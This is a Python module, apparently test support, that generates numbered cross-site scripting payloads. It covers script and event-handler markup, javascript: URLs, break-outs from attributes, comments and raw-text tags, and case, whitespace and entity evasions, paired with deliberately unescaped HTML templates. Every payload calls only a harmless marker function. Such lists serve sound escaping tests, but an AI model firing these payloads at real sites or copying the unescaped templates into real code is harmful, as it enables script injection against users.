"""Make pieces of code that would run if a page wrote words of a report as they are: what runs, what it breaks out of, and how it is spelt.

Each calls `zqx9` with its own number. Each names the careless page that it is meant for (`CARELESS`), so that a test can first see it run there.
"""

from collections.abc import Callable, Iterator
from dataclasses import dataclass
from html import escape, unescape
from urllib.parse import quote, unquote

MARKER = "zqx9"

# What runs once it is markup. RUN stands for the call.
ELEMENTS = (
    "<script>RUN</script>",
    "<script src=data:,RUN></script>",
    "<img src=x onerror=RUN>",
    "<img srcset=x onerror=RUN>",
    "<svg onload=RUN>",
    "<svg><script>RUN</script></svg>",
    "<svg><image href=x onerror=RUN></svg>",
    "<svg><animate onbegin=RUN attributeName=x dur=1s></svg>",
    "<svg><set onbegin=RUN attributeName=x></svg>",
    "<math><mtext><img src=x onerror=RUN></mtext></math>",
    "<body onpageshow=RUN>",
    "<body onload=RUN>",
    "<details open ontoggle=RUN>",
    "<video src=x onerror=RUN></video>",
    "<video><source src=x onerror=RUN></video>",
    "<audio src=x onerror=RUN></audio>",
    "<input type=image src=x onerror=RUN>",
    "<svg><foreignObject><img src=x onerror=RUN></foreignObject></svg>",
    "<iframe onload=RUN></iframe>",
    "<iframe src=javascript:parent.RUN></iframe>",
    "<iframe srcdoc='<script>parent.RUN</script>'></iframe>",
    "<object data=x onerror=RUN></object>",
    "<embed src=data:text/html, onload=RUN>",
    "<link rel=stylesheet href=data:text/css, onload=RUN>",
    "<style onload=RUN></style>",
    "<input autofocus onfocus=RUN>",
    "<select autofocus onfocus=RUN></select>",
    "<textarea autofocus onfocus=RUN></textarea>",
    "<p tabindex=1 autofocus onfocus=RUN>x</p>",
    "<a href=javascript:RUN>x</a>",
    "<form action=javascript:RUN><button>x</button></form>",
    "<form><button formaction=javascript:RUN>x</button></form>",
    "<svg><a href=javascript:RUN><text y=20>x</text></a></svg>",
    "<div onmouseover=RUN>x</div>",
)
# What it breaks out of first: the careless page, and the words that end what it has begun.
BREAKS = (
    ("text", ""),
    ("double", '">'),
    ("single", "'>"),
    ("bare", "x>"),
    ("title", "</title>"),
    ("textarea", "</textarea>"),
    ("style", "</style>"),
    ("script", "</script>"),
    ("comment", "-->"),
    ("comment", "--!>"),
    ("option", "</option></select>"),
    ("noscript", "</noscript>"),
    ("xmp", "</xmp>"),
    ("template", "</template>"),
    ("cdata", "]]></svg>"),
    ("button", "</button>"),
)
# What runs from within an attribute, by the quotation mark that it ends.
HANDLERS = (
    "autofocus tabindex=0 onfocus=RUN",
    "tabindex=0 onfocusin=RUN",
    "onmouseover=RUN",
    "onclick=RUN",
    "oncontextmenu=RUN",
    "style=animation:x onpointerover=RUN",
)
QUOTES = (("double", '" ', ' x="'), ("single", "' ", " x='"), ("bare", "x ", ""))
ADDRESSES = (
    "javascript:RUN",
    "JaVaScRiPt:RUN",
    "  javascript:RUN",
    "java\tscript:RUN",
    "java\nscript:RUN",
    "\x01javascript:RUN",
    "javascript://%0aRUN",
    "javascript:void(RUN)",
    "javascript:/*x*/RUN//",
    "javascript:'<b>'+RUN",
    "JAVASCRIPT\t:RUN",
    "javascript&colon;RUN",
)
STRINGS = ("';RUN//", "'-RUN-'", "'+RUN+'", "\\\\';RUN//", "'*RUN;'", "';RUN;'", "',a=RUN,b='", "'==RUN=='", "'\n;RUN//", "'||RUN||'")
SPELLINGS: tuple[tuple[str, Callable[[str], str]], ...] = (
    ("text", lambda code: code.replace("img", "IMG").replace("src", "SrC").replace("onerror", "oNeRrOr")),
    ("text", lambda code: code.replace("src=x ", "src='x' ").replace(" ", "/")),
    ("text", lambda code: code.replace(" ", "\t")),
    ("text", lambda code: code.replace(" ", "\n")),
    ("text", lambda code: code.replace(" ", "\x0c")),
    ("text", lambda code: code.replace("=zqx9", "=&#122;&#x71;x9")),
    ("text", lambda code: code.replace("(", "&lpar;").replace(")", "&rpar;")),
    ("text", lambda code: code.removesuffix(">") + "//"),
    ("text", lambda code: "<" + code),
    ("text", lambda code: f"\u202e{code}\u2028"),
    ("text", lambda code: f"\U0001f4a5é{code}"),
    ("unescaped", escape),
    ("unquoted", lambda code: quote(code, safe="")),
    ("unquoted", lambda code: quote(code).replace("%3C", "%3c")),
)
PLAIN = ("<img src=x onerror=RUN>", "<video src=x onerror=RUN>")

CARELESS: dict[str, Callable[[str], str]] = {
    "text": "<p>{}</p>".format,
    "double": '<p title="{}">x</p>'.format,
    "single": "<p title='{}'>x</p>".format,
    "bare": "<p title={}>x</p>".format,
    "title": "<title>{}</title>".format,
    "textarea": "<textarea>{}</textarea>".format,
    "style": "<style>{}</style>".format,
    "script": "<script>var words = '{}'</script>".format,
    "comment": "<!-- {} -->".format,
    "option": "<select><option>{}</option></select>".format,
    "noscript": "<noscript>{}</noscript>".format,
    "xmp": "<xmp>{}</xmp>".format,
    "template": "<template>{}</template>".format,
    "cdata": "<svg><![CDATA[{}]]></svg>".format,
    "button": "<button>{}</button>".format,
    "address": '<a href="{}">x</a>'.format,
    "unescaped": lambda words: f"<p>{unescape(words)}</p>",
    "unquoted": lambda words: f"<p>{unquote(words)}</p>",
}


@dataclass(frozen=True, slots=True)
class Payload:
    """Words that would run, their number, and the name of the careless page on which they do."""

    number: int
    where: str
    words: str

    def careless(self) -> str:
        """Write them into that page, as a program that escapes nothing would."""
        return CARELESS[self.where](self.words)


def _patterns() -> Iterator[tuple[str, str, Callable[[str], str]]]:
    """Yield each pattern with the careless page it is meant for, and its spelling: every element out of four things, and all else in every way."""
    for at, element in enumerate(ELEMENTS):
        for step in range(4):
            where, ending = BREAKS[(at + 4 * step) % len(BREAKS)]
            yield where, f"{ending}{element}", str
    for where, begin, end in QUOTES:
        yield from ((where, f"{begin}{handler}{end}", str) for handler in HANDLERS)
    yield from (("address", address, str) for address in ADDRESSES)
    yield from (("script", words, str) for words in STRINGS)
    yield from ((where, plain, spell) for where, spell in SPELLINGS for plain in PLAIN)


def payloads() -> tuple[Payload, ...]:
    """Give them all, numbered."""
    return tuple(Payload(number, where, spell(words.replace("RUN", f"{MARKER}({number})"))) for number, (where, words, spell) in enumerate(_patterns()))
